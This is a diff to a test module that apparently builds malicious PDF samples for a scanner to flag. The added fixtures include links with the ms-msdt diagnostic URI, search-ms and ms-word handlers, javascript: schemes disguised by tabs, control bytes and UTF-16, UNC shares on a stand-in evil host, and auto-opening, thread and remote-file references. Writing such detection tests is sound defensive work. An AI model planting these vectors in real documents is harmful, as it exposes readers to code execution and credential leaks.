@@ -98,9 +98,33 @@ def a_widget(kind: bytes) -> bytes:
     return a_pdf(page=b"/Annots [<< /Type /Annot /Subtype /%s /Rect [0 0 9 9] >>]" % kind)
 
 
+def an_object(entries: bytes) -> bytes:
+    """Return a page that draws an object with these entries."""
+    drawn = a_stream(b"", b"/Type /XObject " + entries)
+    return a_pdf(b"", drawn, page=b"/Resources << /XObject << /X 4 0 R >> >>")
+
+
 def an_action(action: bytes) -> bytes:
     """Return a page with a link that does something."""
     return a_pdf(page=ANNOTATED % action)
+
+
+NEXT = b"<< /S /GoTo /D [3 0 R /Fit] /Next %s >>"
+ADDRESSES = {
+    "a tool of Windows": b"ms-msdt:/id PCWDiagnostic",
+    "a search": b"search-ms:query=x",
+    "a protocol of Word": b"ms-word:ofe|u|http://evil.example",
+    "a script with a tab in it": b"java\tscript:x",
+    "a script behind a control sign": b"\x01javascript:x",
+    "a script behind a space": b" javascript:x",
+    "a script in wide letters": b"\xfe\xff" + "javascript:x".encode("utf-16-be"),
+    "a file through a gateway": b"file+x://evil",
+    "a scheme with a point": b"ms.foo:bar",
+    "a share, with other strokes": b"//evil/share",
+    "a share, with a tab in it": b"/\t/evil/share",
+    "a share, with both strokes": b"/\\\\evil",
+    "the web, badly written": b"http:evil",
+}
 
 
 PDFS: dict[str, tuple[str, bytes, str]] = {
@@ -161,6 +185,38 @@ PDFS: dict[str, tuple[str, bytes, str]] = {
     "a link with a script": ("a.pdf", an_action(b"<< /S /URI /URI (javascript:x) >>"), "link"),
     "a link to a file": ("a.pdf", an_action(b"<< /S /URI /URI (file:///etc/passwd) >>"), "link"),
     "a link to a share": ("a.pdf", an_action(b"<< /S /URI /URI (\\\\\\\\evil) >>"), "link"),
+    **{
+        f"a link to {what}": ("a.pdf", an_action(b"<< /S /URI /URI (%s) >>" % address), "link")
+        for what, address in ADDRESSES.items()
+    },
+    "a link that is no text": ("a.pdf", an_action(b"<< /S /URI /URI /javascript:x >>"), "link"),
+    "a share under all links": ("a.pdf", a_pdf(b"/URI << /Base (//evil/share) >>"), "link"),
+    "a website after it opens": (
+        "a.pdf",
+        a_pdf(OPENS % NEXT % b"<< /S /URI /URI (https://evil.example) >>"),
+        "opening",
+    ),
+    "a print after it opens": (
+        "a.pdf",
+        a_pdf(OPENS % NEXT % b"[<< /S /Named /N /Print >>]"),
+        "opening",
+    ),
+    "a thread on another computer": (
+        "a.pdf",
+        an_action(b"<< /S /Thread /F (\\\\\\\\evil\\\\share) /D 0 >>"),
+        "launch",
+    ),
+    "a picture in another file": ("a.pdf", an_object(b"/F (http://evil.example/x)"), "launch"),
+    "a drawing of another file": (
+        "a.pdf",
+        an_object(b"/Subtype /Form /BBox [0 0 9 9] /Ref << /F (//evil/x.pdf) /Page 0 >>"),
+        "launch",
+    ),
+    "a finer picture elsewhere": (
+        "a.pdf",
+        an_object(b"/Subtype /Form /BBox [0 0 9 9] /OPI << /2.0 << /F (//evil/x) >> >>"),
+        "launch",
+    ),
     "a form that is sent": (
         "a.pdf",
         an_action(b"<< /S /SubmitForm /F (https://evil.example) >>"),
